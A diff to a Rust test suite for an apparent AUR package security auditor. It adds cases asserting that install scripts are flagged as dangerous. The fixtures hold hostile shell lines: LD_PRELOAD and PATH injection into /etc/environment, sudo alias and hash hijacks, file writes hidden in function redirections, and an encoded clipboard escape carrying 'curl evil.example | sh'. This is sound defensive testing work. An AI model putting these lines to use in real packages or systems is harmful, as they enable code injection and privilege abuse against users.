@@ -385,7 +385,7 @@ fn one_fixed_message_to_the_invokers_session_bus_is_low() {
     for send in [
         RELOAD.to_owned(),
         "sudo -u \"#$SUDO_UID\" dbus-send --session --print-reply --dest=org.Example.Shell /org/Example/Shell org.Example.Shell.Reload uint32:1".into(),
-        "runuser -u \"$SUDO_USER\" -- dbus-send --bus=unix:path=/run/user/1000/bus --type=signal /org/Example org.Example.Changed".into(),
+        "sudo -n -u \"#$SUDO_UID\" -- /usr/bin/dbus-send --bus=unix:path=/run/user/1000/bus --type=signal /org/Example org.Example.Changed".into(),
     ] {
         let r = audit(&package("desktop-artwork", None, Some(&reload_script(&send))));
         assert_eq!(
@@ -439,6 +439,8 @@ fn anything_else_run_as_the_invoker_stays_high() {
         format!("{u} -i dbus-send --session {d} org.Example.Shell.Restart"),
         format!("{u} /usr/share/demo/dbus-send --session {d} org.Example.Shell.Restart"),
         "runuser -u \"$SUDO_USER\" -- /usr/bin/desktop-artwork-refresh".into(),
+        // runuser passes root's environment on (a bus address, LD_PRELOAD): not sudo's reset.
+        format!("runuser -u \"$SUDO_USER\" -- dbus-send --session {d} org.Example.Shell.Restart"),
         format!("su \"$SUDO_USER\" -c 'dbus-send --session {d} org.Example.Shell.Restart'"),
     ];
     // The invoker's id in the address changed by the file: by name, through a computed name,
@@ -453,6 +455,11 @@ fn anything_else_run_as_the_invoker_stays_high() {
         "n=SUDO_UID; : \"${!n:=x}\"",
         "eval \"$(cat /etc/demo/env)\"",
         ". /etc/demo/env",
+        // How `dbus-send` is found changed: sudo without secure_path searches this PATH.
+        "PATH=/usr/share/desktop-artwork:$PATH",
+        "export PATH=\"/usr/share/desktop-artwork:$PATH\"",
+        "hash -p /usr/share/desktop-artwork/tool sudo",
+        "shopt -s expand_aliases; alias sudo='sudo env LD_PRELOAD=/usr/lib/libdemo.so'",
     ] {
         sends.push(format!("{before}\n  {restart}"));
     }
@@ -531,6 +538,7 @@ fn a_hidden_install_file_that_does_anything_else_stays_high() {
         "echo -e '\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\a'",
         "printf '\\x1b]0;title\\x07'",
         "notify_user",
+        "{ echo 'x'; } > /etc/motd",
         "echo hi\n\t. /etc/demo/more",
     ] {
         let script = format!("post_install() {{\n\t{body}\n}}\n");
@@ -542,6 +550,17 @@ fn a_hidden_install_file_that_does_anything_else_stays_high() {
             r.to_text()
         );
     }
+    // A redirection of the function itself writes a file each time it runs.
+    let r = audit(&stale_srcinfo(
+        "post_install() {\n\techo 'x' >&3\n} 3>/etc/motd\n",
+        true,
+    ));
+    assert_eq!(
+        max_of(&r, "AUR-SRCINFO-MISMATCH"),
+        Some(Severity::High),
+        "{}",
+        r.to_text()
+    );
     // The install file not among the package's files: nothing is known of it.
     let r = audit(&stale_srcinfo("post_install() {\n\techo hi\n}\n", false));
     assert_eq!(
@@ -589,6 +608,7 @@ fn any_other_environment_line_or_file_stays_high() {
         "echo 'PYTHONPATH=/usr/share/demo' >> /etc/environment",
         "echo -e 'PATH=/usr/bin\\nLD_PRELOAD=/tmp/x.so' >> /etc/environment",
         "cat >> /etc/environment <<'EOF'\nPATH=/usr/bin\nLD_PRELOAD=/tmp/x.so\nEOF",
+        "{ echo 'PATH=/usr/bin'; echo 'LD_PRELOAD=/tmp/x.so'; } >> /etc/environment",
         "echo 'PATH=\"/usr/local/bin:/usr/bin:/bin\"' >> /etc/profile.d/demo.sh",
         "echo 'PATH=\"/usr/local/bin:/usr/bin:/bin\"' >> /etc/environment.d/10-demo.conf",
     ] {
@@ -601,4 +621,21 @@ fn any_other_environment_line_or_file_stays_high() {
         );
         assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
     }
+}
+
+/// Found while fixing the stale-.SRCINFO class: a function definition's own redirection
+/// (`post_install() { …; } >> FILE`) applies to every command of its body each time it runs,
+/// as bash does; the walk dropped it, so the write was seen nowhere.
+#[test]
+fn a_function_definitions_redirection_writes_its_file() {
+    let script =
+        "post_install() {\n  echo 'LD_PRELOAD=/usr/lib/libdemo.so'\n} >> /etc/environment\n";
+    let r = audit(&package("backup-agent", None, Some(script)));
+    assert_eq!(
+        max_of(&r, "AUR-PERSISTENCE"),
+        Some(Severity::High),
+        "{}",
+        r.to_text()
+    );
+    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
 }
